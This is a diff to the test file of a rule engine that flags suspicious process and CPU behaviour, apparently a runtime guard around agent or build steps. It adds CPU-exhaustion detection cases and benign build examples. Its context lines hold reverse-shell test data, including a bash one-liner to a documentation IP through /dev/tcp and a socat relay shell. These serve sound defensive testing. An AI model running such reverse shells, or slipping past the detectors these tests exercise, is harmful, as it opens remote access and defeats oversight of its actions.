@@ -15,6 +15,7 @@ import {
   proxyConnection,
   resourceSample,
   samplesOverTime,
+  stepUsage,
 } from './event-fixtures.js';
 import { RuleEngine } from './rule-engine.js';
 import { loadBuiltinRules } from './rule-loader.js';
@@ -213,6 +214,8 @@ ROME.push(
   ['sh under a relay (socat EXEC, pty.spawn)', cases(processSockets(['/bin/sh'], { stdio: ['tty', 'tty', 'tty'], netSockets: 0, parentExe: '/usr/bin/socat', parentNetSockets: 1 })), 'socket-relay-shell', 'T1059.004'],
   ['bash behind a refused connection (/dev/tcp)', cases(processSockets(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'], { via: 'denied', stdio: ['pipe', 'pipe', 'pipe'] })), 'shell-opened-connection', 'T1059.004'],
   ['python dup2 one-liner behind a refused connection', cases(processSockets(PY_RSH, { via: 'denied', stdio: ['pipe', 'pipe', 'pipe'] })), 'refused-shell-wiring', 'T1059.004'],
+  ['a step of pure computation on a loaded host (0.5 core used, 0.5 waited for)', cases(stepUsage({ cores: 0.5, demandCores: 0.97 })), 'cpu-pure-step', 'T1496'],
+  ['a type check that kept a core busy (finding)', cases(stepUsage({ peakMemoryBytes: 450e6, userShare: 0.96 })), 'cpu-sustained-step', 'T1496'],
 );
 
 describe('ROME-class behaviour raises its rule', () => {
@@ -261,6 +264,12 @@ const BENIGN: [string, GuardEvent[]][] = [
   ]],
   // make -j2 keeps two cores busy while its step runs: not a step-outliving process.
   ['make -j2', [processStart(['make', '-s', '-j2']), processStart(['cc', '-O1', '-o', 'a', 'burn.c']), processStart(['./a'], { exe: '/workspace/c/a' }), ...samplesOverTime(30, { stepRunning: true, cpuCores: 2.0 })]],
+  // Builds and test runs that keep a core busy for a whole step: a finding at most (cpu-sustained-step), never the pure-CPU alert.
+  ['tsc --noEmit on a big project: one node process, 450 MiB', [stepUsage({ wallMs: 40_000, execs: 3, userShare: 0.96, peakMemoryBytes: 450e6 })]],
+  ['make: a compiler per file', [stepUsage({ wallMs: 20_000, execs: 120, userShare: 0.82, peakMemoryBytes: 80e6 })]],
+  ['a test suite in one process that reads and writes files', [stepUsage({ wallMs: 12_000, execs: 2, userShare: 0.88, peakMemoryBytes: 60e6 })]],
+  ['a short step, busy but brief', [stepUsage({ wallMs: 3000 })]],
+  ['a step that mostly waited (sleep, network)', [stepUsage({ cores: 0.05, demandCores: 0.06 })]],
   ['gcc', [processStart(['gcc', '-O2', '-Wall', '-o', 'app', 'main.c']), processStart(['./app'], { exe: '/workspace/app' })]],
   ['pytest', [processStart(['python3', '-m', 'pytest', '-q'], { exe: '/usr/bin/python3.12' })]],
   ['go test (binaries under /tmp/go-build)', [processStart(['/tmp/go-build123/b001/pkg.test', '-test.v'])]],
